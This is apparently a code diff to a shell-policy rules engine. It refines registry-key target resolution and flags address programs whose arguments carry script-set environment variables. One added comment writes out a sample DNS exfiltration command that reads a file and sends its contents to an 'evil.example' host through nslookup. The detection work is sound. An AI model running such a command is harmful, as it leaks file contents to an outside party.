@@ -43,6 +43,7 @@ from policy.rules.effects_common import (
     split_list,
     strip_pair,
     targets,
+    unknown_variable,
     unquote,
 )
 from policy.rules.effects_dispatch import CALLS, effects_of, program_stem
@@ -397,7 +398,11 @@ def _registry_earlier(ops: Sequence[Operation], index: int) -> Effects | None:
     cannot be named leaves the target unknown), so keeping a protected key in one variable and opening
     a harmless one after it hides nothing."""
     op = ops[index]
-    key = registry_key_in_text(op.text) or registry_root(op)
+    chain = registry_key_in_text(op.text)
+    if chain is not None and _method(op) in ("opensubkey", "createsubkey"):
+        # The chain read from the text already ends in the subkey this call opens: it is the whole target.
+        return tuple(replace(found, target=chain) for found in effects_of(op))
+    key = chain or registry_root(op)
     keys = [key] if key is not None else list(dict.fromkeys(_registry_keys_before(ops, index)))
     if not keys:
         return None
@@ -628,7 +633,9 @@ def _sends_a_value(op: Operation) -> bool:
         if any(v is None for v in named) or (not named and op.args[:1] == (None,)):
             return True
     if op.shell in ("program", "cmd") and program_stem(op.name) in _ADDRESS_PROGRAMS:
-        return None in op.args
+        # A variable no standard environment defines holds what the script put there (`$env:D = gc a.txt; cmd /c
+        # "nslookup %D%.evil.example"`): the value travels in the name as a computed one would (S-RULE-99).
+        return any(a is None or unknown_variable(op.shell, a) is not None for a in op.args)
     if op.shell == "powershell" and op.name == "start-process":  # `Start-Process msedge "https://…$d"`
         bound = bind(op, ("filepath", "argumentlist"))
         started = first(bound, "filepath")
